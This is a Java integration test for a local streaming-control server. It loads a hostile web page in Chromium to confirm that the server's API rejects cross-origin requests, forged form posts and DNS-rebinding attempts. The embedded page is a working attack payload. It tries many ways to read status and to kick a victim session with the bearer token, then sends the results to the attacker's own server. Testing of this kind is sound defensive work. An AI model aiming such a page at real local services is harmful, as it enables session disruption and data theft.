package io.stagedoor.itests.red5;

import static io.stagedoor.itests.Eventually.eventually;
import static io.stagedoor.itests.Token.token;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.Assume.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.stagedoor.itests.rtmp.RtmpClient;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.AfterClass;
import org.junit.BeforeClass;
import org.junit.ClassRule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;

/** A hostile page in the browser of the operator: it may send what a browser sends, even with the token, and gets nothing. */
public class HostilePageIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final long PATIENCE_SECONDS = 90;

    /** Each way in which a page can reach a server; what came of it goes to the page's own server. */
    private static final String PAGE = """
            <!doctype html><iframe name="hidden" id="hidden"></iframe>
            <form id="form" method="post" target="hidden" action="CHANNEL/v1/kick?sub=victim&by=page"></form>
            <form id="body" method="post" target="hidden" action="CHANNEL/v1/dry-run"><input name="app" value="live"></form>
            <script>
            const channel = 'CHANNEL', own = location.origin, bearer = {Authorization: 'Bearer TOKEN'};
            const read = async response => response.type + ' ' + response.status + ' ' + await response.text();
            const ways = {
              control: () => fetch(own + '/control').then(read),
              get: () => fetch(channel + '/v1/status').then(read),
              getWithToken: () => fetch(channel + '/v1/sessions', {headers: bearer}).then(read),
              getCredentialed: () => fetch(channel + '/v1/status', {credentials: 'include'}).then(read),
              noCors: () => fetch(channel + '/v1/status', {mode: 'no-cors', headers: bearer}).then(read),
              noCorsKick: () => fetch(channel + '/v1/kick?sub=victim', {method: 'POST', mode: 'no-cors'}).then(read),
              kickWithToken: () => fetch(channel + '/v1/kick?sub=victim', {method: 'POST', headers: bearer}).then(read),
              dryRun: () => fetch(channel + '/v1/dry-run',
                {method: 'POST', body: new URLSearchParams({app: 'live'}), headers: bearer}).then(read),
              noCorsDryRun: () => fetch(channel + '/v1/dry-run',
                {method: 'POST', mode: 'no-cors', body: new URLSearchParams({app: 'live'})}).then(read),
              rebound: () => fetch('http://rebound.test:PORT/v1/status', {headers: bearer}).then(read),
              reboundNoCors: () => fetch('http://rebound.test:PORT/v1/kick?sub=victim', {method: 'POST', mode: 'no-cors'}).then(read),
              beacon: async () => 'sent ' + navigator.sendBeacon(channel + '/v1/kick?sub=victim', 'x'),
              webSocket: () => new Promise((done, fail) => {
                const socket = new WebSocket(channel.replace('http', 'ws') + '/v1/tail');
                socket.onopen = () => done('open'); socket.onerror = () => fail('error');
              }),
              eventSource: () => new Promise((done, fail) => {
                const source = new EventSource(channel + '/v1/tail');
                source.onopen = () => done('open'); source.onerror = () => fail('error');
              }),
              script: () => element('script', 'src'),
              image: () => element('img', 'src'),
              frame: () => new Promise(done => {
                const frame = document.createElement('iframe');
                frame.onload = () => { try { done('read ' + frame.contentDocument.body.innerHTML); } catch (e) { done('opaque'); } };
                frame.src = channel + '/v1/status'; document.body.append(frame);
              }),
              form: async () => { document.getElementById('form').submit(); return 'sent'; },
              formBody: () => new Promise(done => setTimeout(() => {
                document.getElementById('hidden').onload = () => done('sent'); document.getElementById('body').submit(); }, 500)),
            };
            const element = (name, source) => new Promise((done, fail) => {
              const one = document.createElement(name);
              one.onload = () => done('loaded'); one.onerror = () => fail('error');
              one[source] = channel + '/v1/status'; document.body.append(one);
            });
            addEventListener('load', async () => {
              const results = {};
              for (const [name, way] of Object.entries(ways)) {
                try {
                  results[name] = await Promise.race([way(), new Promise((d, fail) => setTimeout(() => fail('no answer'), 5000))]);
                } catch (e) { results[name] = 'failed ' + e; }
              }
              await fetch(own + '/results', {method: 'POST', body: JSON.stringify(results)});
            });
            </script>
            """;

    @ClassRule
    public static final TemporaryFolder TEMPORARY = new TemporaryFolder();

    private static StagedoorServer server;
    private static JsonNode channel;

    @BeforeClass
    public static void start() throws IOException {
        boolean isInstalled = Chromium.installed().isPresent();
        if (!isInstalled) {
            System.out.println("SKIPPED: HostilePageIT, because Chromium is not installed");
        }
        assumeTrue("Chromium is not installed", isInstalled);
        server = StagedoorServer.started();
        Path file = server.stagedoor().resolve("data/operations.json");
        eventually(() -> assertThat(file).exists());
        channel = JSON.readTree(Files.readString(file));
    }

    @AfterClass
    public static void stop() {
        if (server != null) {
            server.close();
        }
    }

    private static int port() {
        return channel.path("port").asInt();
    }

    private static Chromium browse(String url, String... more) throws IOException {
        return Chromium.open(TEMPORARY.getRoot().toPath(), url, more);
    }

    private static void answer(HttpExchange exchange, String type, String text) throws IOException {
        exchange.getResponseHeaders().set("Content-Type", type);
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        exchange.sendResponseHeaders(200, bytes.length);
        exchange.getResponseBody().write(bytes);
        exchange.close();
    }

    private static JsonNode attacked() throws Exception {
        CompletableFuture<String> results = new CompletableFuture<>();
        HttpServer hostile = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        String page = PAGE.replace("CHANNEL", "http://127.0.0.1:" + port())
                .replace("PORT", String.valueOf(port()))
                .replace("TOKEN", channel.path("token").asText());
        hostile.createContext("/", exchange -> answer(exchange, "text/html", page));
        hostile.createContext("/control", exchange -> answer(exchange, "text/plain", "control"));
        hostile.createContext("/results", exchange -> {
            results.complete(new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            answer(exchange, "text/plain", "");
        });
        hostile.start();
        String url = "http://hostile.test:" + hostile.getAddress().getPort() + "/";
        try (Chromium browser = browse(url, "--remote-debugging-port=0")) {
            return JSON.readTree(results.get(PATIENCE_SECONDS, TimeUnit.SECONDS));
        } finally {
            hostile.stop(0);
        }
    }

    @Test
    public void gets_nothing_whatever_it_sends() throws Exception {
        String victim = token().claim("sub", "victim").signedWith(server.secret());
        try (RtmpClient client = RtmpClient.connected(server.rtmpPort(), "live?token=" + victim)) {
            JsonNode results = attacked();

            assertThat(results.path("control").asText()).as("the page works").isEqualTo("basic 200 control");
            for (String way : List.of(
                    "get",
                    "getWithToken",
                    "getCredentialed",
                    "kickWithToken",
                    "dryRun",
                    "rebound",
                    "webSocket",
                    "eventSource",
                    "script",
                    "image")) {
                assertThat(results.path(way).asText()).as(way).startsWith("failed");
            }
            for (String way : List.of("noCors", "noCorsKick", "noCorsDryRun", "reboundNoCors")) {
                assertThat(results.path(way).asText()).as(way).matches("opaque 0 |failed .*");
            }
            assertThat(results.path("beacon").asText()).startsWith("sent");
            assertThat(results.path("form").asText()).isEqualTo("sent");
            assertThat(results.path("frame").asText()).isEqualTo("opaque");
            assertThat(client.createStream()).as("the victim is in").isPositive();
            String acts = Files.readString(server.stagedoor().resolve("log/audit.log"));
            assertThat(acts).doesNotContain("\"decision\":\"act\"");
        }
    }

    @Test
    public void a_name_that_leads_to_this_machine_opens_nothing() throws Exception {
        try (Chromium browser = browse("http://rebound.test:" + port() + "/v1/status", "--dump-dom")) {
            String shown = new String(browser.printed(), StandardCharsets.UTF_8);
            assertThat(shown).contains("Host must be the address and port").doesNotContain("healthy", "generation");
        }
    }
}
